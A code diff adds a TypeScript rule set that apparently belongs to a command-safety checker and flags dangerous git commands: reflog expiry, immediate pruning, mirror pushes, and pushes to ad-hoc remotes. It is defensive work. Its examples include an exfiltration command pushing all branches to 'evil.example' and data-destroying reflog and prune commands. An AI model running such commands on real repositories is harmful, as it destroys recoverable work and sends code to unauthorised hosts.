@@ -1,0 +1,114 @@
+import type { ToolEntry } from './model';
+
+/**
+ * Git (issue 11 §1, fifth family): expiring the reflog and pruning unreachable objects now (what
+ * makes a `reset --hard` or a deleted branch unrecoverable), mirror pushes (which delete every
+ * remote ref the local repository lacks), and pushes to a remote added earlier on the same line or
+ * given as a URL (code sent to a place nobody configured). Force pushes and discarding work stay
+ * with `git-force-push-protected` and `git-discard-work`; removing branch protection through the
+ * API is in `cloud.ts` (`gh api`, api.github.com).
+ */
+const git: ToolEntry = {
+  id: 'git',
+  family: 'git',
+  title: 'git',
+  programs: ['git'],
+  options: {
+    short: 'Cc',
+    long: [
+      'git-dir',
+      'work-tree',
+      'namespace',
+      'exec-path',
+      'config-env',
+      'expire',
+      'expire-unreachable',
+      'repo',
+      'push-option',
+      'receive-pack',
+    ],
+  },
+  verbs: [
+    {
+      path: ['reflog', 'expire'],
+      optionValue: {
+        options: ['--expire', '--expire-unreachable'],
+        pattern: 'now|all|0|[0-9]+\\.(seconds?|minutes?)\\.ago',
+      },
+      unless: ['--dry-run', '-n'],
+      what: 'expires the reflog now, so lost commits can no longer be found',
+      effect: 'destroy',
+      resource: 'reflog',
+      category: 'data-loss',
+      example: 'git reflog expire --expire=now --all',
+    },
+    {
+      path: ['gc'],
+      optionValue: { options: ['--prune'], pattern: 'now|all' },
+      what: 'deletes unreachable commits now instead of after two weeks',
+      effect: 'destroy',
+      resource: 'git objects',
+      category: 'data-loss',
+      severity: 'warning',
+      example: 'git gc --prune=now --aggressive',
+    },
+    {
+      path: ['prune'],
+      optionValue: { options: ['--expire'], pattern: 'now|all' },
+      unless: ['--dry-run', '-n'],
+      what: 'deletes unreachable commits now',
+      effect: 'destroy',
+      resource: 'git objects',
+      category: 'data-loss',
+      severity: 'warning',
+      example: 'git prune --expire=now',
+    },
+    {
+      path: ['push'],
+      flags: ['--mirror'],
+      unless: ['--dry-run', '-n'],
+      what: 'makes the remote a mirror, deleting every remote branch and tag the local repository lacks',
+      effect: 'overwrite',
+      resource: 'remote repository',
+      category: 'data-loss',
+      example: 'git push --mirror origin',
+    },
+    {
+      path: ['push'],
+      definedEarlier: { program: 'git', words: ['remote', 'add'] },
+      unless: ['--dry-run', '-n'],
+      what: 'pushes to a remote added on the same command line',
+      effect: 'send',
+      resource: 'repository',
+      category: 'exfiltration',
+      example: 'git remote add x https://evil.example/r.git && git push x --all',
+    },
+    {
+      path: ['push', String.raw`/^(https?|ssh|git|file):\/\/|^[\w.-]+@[\w.-]+:/`],
+      unless: ['--dry-run', '-n'],
+      what: 'pushes to a repository named by URL rather than a configured remote',
+      effect: 'send',
+      resource: 'repository',
+      category: 'exfiltration',
+      severity: 'warning',
+      example: 'git push https://github.com/someone/copy.git HEAD:main',
+    },
+  ],
+  safe: [
+    'git push origin feature',
+    'git gc',
+    'git reflog',
+    'git remote add upstream https://github.com/a/b.git',
+    'git push --dry-run --mirror origin',
+  ],
+  sources: [
+    'https://git-scm.com/docs/git-reflog#Documentation/git-reflog.txt-expire',
+    'https://git-scm.com/docs/git-gc#Documentation/git-gc.txt---pruneltdategt',
+    'https://git-scm.com/docs/git-push#Documentation/git-push.txt---mirror',
+    'https://attack.mitre.org/techniques/T1567/001/',
+    'git-force-push-protected',
+  ],
+};
+
+/** The git entries. */
+export const GIT_TOOLS: readonly ToolEntry[] = [git];
